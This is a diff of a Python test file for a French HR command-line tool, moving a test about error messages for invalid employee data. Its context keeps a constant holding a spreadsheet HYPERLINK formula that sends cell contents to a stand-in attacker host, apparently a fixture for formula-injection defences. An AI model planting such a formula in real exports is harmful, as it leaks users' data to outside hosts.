@@ -118,18 +118,6 @@ def test_due_as_json_and_csv_carry_the_abondement():
     assert all(row["libelle"] == row["libelle"].strip() and "…" not in row["libelle"] for row in rows)
 
 
-def test_error_messages_name_only_the_options_the_command_has(tmp_path):
-    bad = tmp_path / "employees.csv"
-    bad.write_text((SAMPLES / "employees.csv").read_text(encoding="utf-8").replace("1975-03-14", "1975-13-14"),
-                   encoding="utf-8")
-    due = invoke("due", "--before", "2027-03-31", "--data", tmp_path)
-    assert due.exit_code == 2 and "--ignorer-invalides" in due.output
-    assert invoke("due", "--before", "2027-03-31", "--data", tmp_path, "--ignorer-invalides").exit_code == 0
-    generate = invoke("generate", "convocation", "--data", tmp_path, "--matricule", "E0003", "--valeurs",
-                      SAMPLES / "campagne.json", "--out", tmp_path / "x.docx")
-    assert generate.exit_code == 2 and "--ignorer-invalides" not in generate.output
-
-
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
 
 
@@ -174,3 +162,15 @@ def values_json():
     import json
 
     return json.loads((SAMPLES / "campagne.json").read_text(encoding="utf-8"))
+
+
+def test_error_messages_name_only_the_options_the_command_has(tmp_path):
+    bad = tmp_path / "employees.csv"
+    bad.write_text((SAMPLES / "employees.csv").read_text(encoding="utf-8").replace("1975-03-14", "1975-13-14"),
+                   encoding="utf-8")
+    due = invoke("due", "--before", "2027-03-31", "--data", tmp_path)
+    assert due.exit_code == 2 and "--ignorer-invalides" in due.output
+    assert invoke("due", "--before", "2027-03-31", "--data", tmp_path, "--ignorer-invalides").exit_code == 0
+    generate = invoke("generate", "convocation", "--data", tmp_path, "--matricule", "E0003", "--valeurs",
+                      SAMPLES / "campagne.json", "--out", tmp_path / "x.docx")
+    assert generate.exit_code == 2 and "--ignorer-invalides" not in generate.output
